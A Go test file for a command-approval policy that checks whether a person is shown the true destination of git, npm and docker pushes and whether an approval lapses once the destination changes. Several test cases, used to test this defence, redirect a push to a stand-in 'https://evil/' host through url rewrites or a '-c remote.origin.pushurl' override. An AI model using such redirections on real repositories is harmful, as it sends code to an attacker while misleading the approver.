package policy_test

import (
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"tipstaff"
	"tipstaff/internal/command/gitpush"
	"tipstaff/internal/policy"
)

func remote(name, value string) gitpush.Setting {
	return gitpush.Setting{Section: "remote", Sub: "origin", Name: name, Value: value}
}

// TestAPersonSeesWhereAPushGoes: by the settings as git reads them.
func TestAPersonSeesWhereAPushGoes(t *testing.T) {
	p := refsPolicy(t, `git: {allow: ["*"], ask: [push]}`+"\n  timeout: {allow: ['*']}\n  npm: {ask: [publish]}\n  docker: {ask: [push]}")
	rewrite := func(name, base, value string) gitpush.Setting {
		return gitpush.Setting{Section: "url", Sub: base, Name: name, Value: value}
	}
	for _, c := range []struct {
		line     string
		settings []gitpush.Setting
		want     string // all destinations; "?" is one that is not known
	}{
		{"git push origin HEAD:refs/heads/main", []gitpush.Setting{remote("url", "https://host/x")}, "x https://host/x refs/heads/main"},
		{"git push origin HEAD:refs/heads/main", []gitpush.Setting{remote("pushurl", "https://other/x")}, "https://other/x refs/heads/main"},
		{"git push origin HEAD:refs/heads/main", []gitpush.Setting{remote("pushurl", "a"), remote("pushurl", "b")}, "a b refs/heads/main"},
		{"git push origin HEAD:refs/heads/main", []gitpush.Setting{remote("pushurl", "a"), remote("pushurl", ""), remote("pushurl", "b")}, "? refs/heads/main"},
		{"git push origin +HEAD:refs/heads/main", []gitpush.Setting{remote("pushurl", "gh:x"), rewrite("insteadof", "https://evil/", "gh:")}, "https://evil/x refs/heads/main (replaces what is there)"},
		{"git push gh:x HEAD:refs/heads/main", []gitpush.Setting{rewrite("pushinsteadof", "https://evil/", "gh:")}, "https://evil/x refs/heads/main"},
		{"git push gh:x/y HEAD:refs/heads/main", []gitpush.Setting{rewrite("insteadof", "https://short/", "gh:"), rewrite("insteadof", "https://long/", "gh:x/")}, "https://long/y refs/heads/main"},
		{"git push https://host/y :refs/heads/old", nil, "https://host/y refs/heads/old (may remove it)"},
		{"git -c remote.origin.pushurl=https://evil/x push origin HEAD:refs/heads/main", nil, "https://evil/x refs/heads/main"},
		{"timeout 5 git push fork HEAD:refs/heads/main", nil, "y refs/heads/main"},
		{"git push origin HEAD:refs/heads/main", []gitpush.Setting{{Section: "remote", Sub: "origin", Name: "pushurl", Value: "z", Perhaps: true}}, "? refs/heads/main"},
		{"npm publish --registry https://registry.example.org", nil, "https://registry.example.org"},
		{"npm publish", nil, "?"},
		{"docker push registry.example.org/app:1", nil, "registry.example.org/app:1"},
	} {
		w := unlisted()
		w.git = onBranch("topic", c.settings...)
		d := p.Decide(tipstaff.Request{Family: tipstaff.Execute, Argv: strings.Fields(c.line)}, w)
		q, asks := d.Question()
		d.Close()
		if !asks {
			t.Errorf("%s: not asked: %s", c.line, answer(d))
			continue
		}
		var got []string
		var what []string
		for _, to := range q.Goes {
			if to.To == "" {
				to.To = "?"
			}
			got, what = append(got, to.To), to.What
		}
		if text := strings.Join(slices.Concat(got, what), " "); text != c.want {
			t.Errorf("%s: goes to %q, want %q", c.line, text, c.want)
		}
	}
}

// TestAPushThatWasAllowedStartsForItsAddressAlone: what a person was shown is read once
// more before the start.
func TestAPushThatWasAllowedStartsForItsAddressAlone(t *testing.T) {
	p := refsPolicy(t, `git: {allow: ["*"], ask: [push]}`)
	req := tipstaff.Request{Family: tipstaff.Execute, Argv: []string{"git", "push", "origin", "HEAD:refs/heads/main"}}
	for _, moves := range []bool{false, true} {
		w := unlisted()
		w.git = onBranch("topic", remote("pushurl", "https://host/x"))
		d := p.Decide(req, w)
		q, _ := d.Question()
		yes := policy.NewApproval(q, policy.Verdict{Answer: policy.Answer{Choice: policy.Once}, Outcome: policy.Granted}, time.Unix(100, 0))
		g, ok := d.Approved(yes, time.Unix(99, 0))
		if !ok {
			t.Fatal("it is not approved")
		}
		if moves {
			w.git = onBranch("topic", remote("pushurl", "https://evil/x"))
		}
		if g.Unmoved() == moves {
			t.Errorf("moved %t: it starts %t", moves, g.Unmoved())
		}
		g.Close()
		later := p.Decide(req, w)
		if _, ok := later.Approved(yes, time.Unix(99, 0)); ok == moves {
			t.Errorf("moved %t: an approval counts %t", moves, ok)
		}
		later.Close()
		again := p.Decide(req, w)
		if now, _ := again.Question(); reflect.DeepEqual(now.Goes, q.Goes) == moves || (now.Digest == q.Digest) == moves {
			t.Errorf("moved %t: the question is %+v", moves, now.Goes)
		}
		again.Close()
	}
}
